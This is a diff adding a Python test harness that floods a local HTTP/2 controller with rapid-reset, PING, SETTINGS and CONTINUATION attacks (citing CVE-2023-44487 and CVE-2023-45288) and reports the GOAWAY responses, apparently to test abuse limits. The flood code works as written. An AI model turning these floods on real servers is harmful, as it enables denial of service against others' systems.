@@ -1,0 +1,264 @@
+"""Hostile HTTP/2 peers, frame by frame: what nginx's, Go's and Envoy's abuse limits are for (issue 20).
+
+Each attack dials the controller with a valid fleet certificate (an authenticated switch gone bad is the harder
+case: a certificate buys no patience), writes its frames as fast as the socket takes them, and stops when the
+controller closes the connection or when its count or time is spent. What it reports is what the controller did:
+how many connections it ended with GOAWAY and which error code, how many frames it took first.
+
+Run as a process, so its CPU is not the victim's (``tests/test_hostile_h2.py``, ``bench/run.py``)::
+
+    python -m tests.attacks rapid-reset --port 8443 --certs certs --connections 20 --seconds 5
+
+It prints one JSON line: an ``AttackReport``.
+"""
+
+from __future__ import annotations
+
+import argparse
+import asyncio
+import contextlib
+import dataclasses
+import enum
+import json
+import logging
+import ssl
+import sys
+import time
+from collections import Counter
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass
+from pathlib import Path
+
+import h2.config
+import h2.connection
+import h2.events
+import hpack
+from h2.errors import ErrorCodes
+from hyperframe import frame as hf
+
+from sim_switch.dial.tls import client_ssl_context
+from sim_switch.wire.frames import CLIENT_PREFACE, FrameSplitter, parse
+
+# Frames written per socket write: large enough to flood, small enough that a GOAWAY is seen soon after.
+BATCH = 200
+SOURCE = "127.0.0.2"
+# The header block a CONTINUATION flood keeps open: this many bytes per frame, never END_HEADERS.
+CONTINUATION_BYTES = 16_000
+
+
+class Attack(enum.StrEnum):
+    RAPID_RESET = "rapid-reset"  # HEADERS then RST_STREAM at once, stream after stream (CVE-2023-44487)
+    PING_FLOOD = "ping-flood"  # PING after PING, each asking for an ACK
+    SETTINGS_FLOOD = "settings-flood"  # SETTINGS after SETTINGS, each asking for an ACK
+    CONTINUATION_FLOOD = "continuation-flood"  # a header block that never ends (CVE-2023-45288)
+
+
+@dataclass(frozen=True)
+class AttackReport:
+    attack: str
+    connections: int  # dialled, handshakes done
+    frames_sent: int
+    goaway: dict[str, int]  # GOAWAY error code name -> connections that got it
+    closed_by_controller: int  # connections the controller ended (GOAWAY or not) before the attack was spent
+    seconds: float
+
+
+def _headers(stream_id: int, path: bytes, encoder: hpack.Encoder, end_headers: bool = True) -> bytes:
+    block = encoder.encode(
+        [(b":method", b"GET"), (b":scheme", b"https"), (b":authority", b"127.0.0.1"), (b":path", path)]
+    )
+    flags = {"END_STREAM", "END_HEADERS"} if end_headers else {"END_STREAM"}
+    return hf.HeadersFrame(stream_id, data=block, flags=flags).serialize()
+
+
+def _frames(attack: Attack, encoder: hpack.Encoder) -> Iterator[bytes]:
+    """The attack's frames, without end."""
+    if attack is Attack.RAPID_RESET:
+        stream_id = 1
+        while True:
+            yield _headers(stream_id, b"/ping?interval=5", encoder)
+            yield hf.RstStreamFrame(stream_id, error_code=ErrorCodes.CANCEL).serialize()
+            stream_id += 2
+    elif attack is Attack.PING_FLOOD:
+        while True:
+            yield hf.PingFrame(0, opaque_data=b"\x00" * 8).serialize()
+    elif attack is Attack.SETTINGS_FLOOD:
+        while True:
+            yield hf.SettingsFrame(0, settings={hf.SettingsFrame.INITIAL_WINDOW_SIZE: 65_535}).serialize()
+    else:
+        yield _headers(1, b"/ping?interval=0", encoder, end_headers=False)
+        filler = b"\x00" * CONTINUATION_BYTES
+        while True:
+            yield hf.ContinuationFrame(1, data=filler).serialize()
+
+
+@dataclass(frozen=True)
+class Plan:
+    kind: Attack
+    connections: int
+    frames_per_connection: int
+    seconds: float
+    source: str = SOURCE  # the attacker's address: a loopback one of its own, so a per-address limit can tell
+
+
+@dataclass
+class _Tally:
+    frames_sent: int = 0
+    goaway: Counter[str] = dataclasses.field(default_factory=Counter)
+    closed_by_controller: int = 0
+    connections: int = 0
+
+
+async def _one_connection(plan: Plan, port: int, context: ssl.SSLContext, deadline: float, tally: _Tally) -> None:
+    reader, writer = await asyncio.open_connection(
+        "127.0.0.1", port, ssl=context, server_hostname="localhost", local_addr=(plan.source, 0)
+    )
+    tally.connections += 1
+    closed = asyncio.Event()
+
+    async def read() -> None:
+        splitter = FrameSplitter()
+        try:
+            while data := await reader.read(65_536):
+                for raw in splitter.feed(data):
+                    frame = parse(raw)
+                    if isinstance(frame, hf.GoAwayFrame):
+                        tally.goaway[ErrorCodes(frame.error_code).name] += 1
+                        closed.set()  # the controller is done with this connection: the attack on it is over
+        except (ConnectionError, ssl.SSLError):
+            pass
+        closed.set()
+
+    reading = asyncio.create_task(read())
+    encoder = hpack.Encoder()
+    frames = _frames(plan.kind, encoder)
+    writer.write(CLIENT_PREFACE + hf.SettingsFrame(0).serialize())
+    sent = 0
+    try:
+        while sent < plan.frames_per_connection and time.monotonic() < deadline and not closed.is_set():
+            batch = [next(frames) for _ in range(min(BATCH, plan.frames_per_connection - sent))]
+            writer.write(b"".join(batch))
+            sent += len(batch)
+            await writer.drain()
+            await asyncio.sleep(0)  # drain() does not yield while the socket takes it all: let the reader read
+    except (ConnectionError, ssl.SSLError):
+        pass
+    tally.frames_sent += sent
+    with contextlib.suppress(TimeoutError):  # the controller's answer to what it was sent: a GOAWAY, a close
+        await asyncio.wait_for(closed.wait(), max(0.0, deadline - time.monotonic()))
+    if closed.is_set():
+        tally.closed_by_controller += 1
+    reading.cancel()
+    writer.transport.abort()
+
+
+async def attack(plan: Plan, port: int, certs: Path, switch: str) -> AttackReport:
+    """``connections`` at once, each writing up to ``frames_per_connection`` frames, all of it within ``seconds``."""
+    context = client_ssl_context(certs, switch)
+    context.set_alpn_protocols(["h2"])
+    started = time.monotonic()
+    tally = _Tally()
+    deadline = started + plan.seconds
+    await asyncio.gather(*(_one_connection(plan, port, context, deadline, tally) for _ in range(plan.connections)))
+    return AttackReport(
+        attack=plan.kind.value,
+        connections=tally.connections,
+        frames_sent=tally.frames_sent,
+        goaway=dict(tally.goaway),
+        closed_by_controller=tally.closed_by_controller,
+        seconds=round(time.monotonic() - started, 3),
+    )
+
+
+def main(argv: list[str] | None = None) -> int:
+    parser = argparse.ArgumentParser(prog="python -m tests.attacks", description=__doc__.split("\n")[0])
+    parser.add_argument("attack", choices=[kind.value for kind in Attack])
+    parser.add_argument("--port", type=int, required=True)
+    parser.add_argument("--certs", type=Path, required=True, help="dialout's certs_dir")
+    parser.add_argument("--switch", default="switch-1", help="whose certificate to present")
+    parser.add_argument("--connections", type=int, default=1)
+    parser.add_argument("--frames", type=int, default=100_000, help="at most this many frames per connection")
+    parser.add_argument("--seconds", type=float, default=5.0, help="the whole attack stops by then")
+    parser.add_argument("--source", default=SOURCE, help="the loopback address to dial from")
+    args = parser.parse_args(argv)
+    # asyncio warns of every write to a socket the controller has closed; the report says what was closed.
+    logging.getLogger("asyncio").setLevel(logging.ERROR)
+    plan = Plan(Attack(args.attack), args.connections, args.frames, args.seconds, args.source)
+    report = asyncio.run(attack(plan, args.port, args.certs, args.switch))
+    print(json.dumps(dataclasses.asdict(report)), flush=True)
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
+
+
+class RawH2Client:
+    """An h2 client on a TLS socket, frame by frame, for the tests that need a peer to send what a well-behaved
+    client library would not when it would not (reset a stream it just opened, PING between two requests)."""
+
+    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        self._reader = reader
+        self._writer = writer
+        self._h2 = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding=None))
+        self._events: list[h2.events.Event] = []
+
+    @classmethod
+    async def connect(cls, port: int, context: ssl.SSLContext) -> RawH2Client:
+        context.set_alpn_protocols(["h2"])
+        reader, writer = await asyncio.open_connection("127.0.0.1", port, ssl=context, server_hostname="localhost")
+        client = cls(reader, writer)
+        client._h2.initiate_connection()
+        client._flush()
+        return client
+
+    def request(self, path: str) -> int:
+        stream_id: int = self._h2.get_next_available_stream_id()
+        self._h2.send_headers(stream_id, self._headers(path), end_stream=True)
+        self._flush()
+        return stream_id
+
+    @staticmethod
+    def _headers(path: str) -> list[tuple[str, str]]:
+        return [(":method", "GET"), (":scheme", "https"), (":authority", "127.0.0.1"), (":path", path)]
+
+    def request_and_reset(self, path: str, count: int) -> None:
+        """``count`` requests, each reset right after its HEADERS, all in one write."""
+        for _ in range(count):
+            stream_id = self._h2.get_next_available_stream_id()
+            self._h2.send_headers(stream_id, self._headers(path), end_stream=True)
+            self._h2.reset_stream(stream_id, ErrorCodes.CANCEL)
+        self._flush()
+
+    async def ping(self, opaque: bytes) -> None:
+        """A PING, and its ACK: the controller has read everything sent before it."""
+        self._h2.ping(opaque)
+        self._flush()
+        await self._until(lambda e: isinstance(e, h2.events.PingAckReceived) and e.ping_data == opaque)
+
+    async def answer(self, stream_id: int) -> int:
+        """The status of the response on ``stream_id``."""
+        event = await self._until(lambda e: isinstance(e, h2.events.ResponseReceived) and e.stream_id == stream_id)
+        assert isinstance(event, h2.events.ResponseReceived)
+        return int(dict(event.headers)[b":status"])
+
+    async def close(self) -> None:
+        self._writer.close()
+        with contextlib.suppress(ConnectionError, ssl.SSLError):
+            await self._writer.wait_closed()
+
+    async def _until(self, wanted: Callable[[h2.events.Event], bool]) -> h2.events.Event:
+        while True:
+            for index, event in enumerate(self._events):
+                if wanted(event):
+                    del self._events[: index + 1]
+                    return event
+            self._events.clear()
+            data = await self._reader.read(65_536)
+            if not data:
+                raise ConnectionError("the controller closed the connection")
+            self._events += self._h2.receive_data(data)
+            self._flush()
+
+    def _flush(self) -> None:
+        self._writer.write(self._h2.data_to_send())
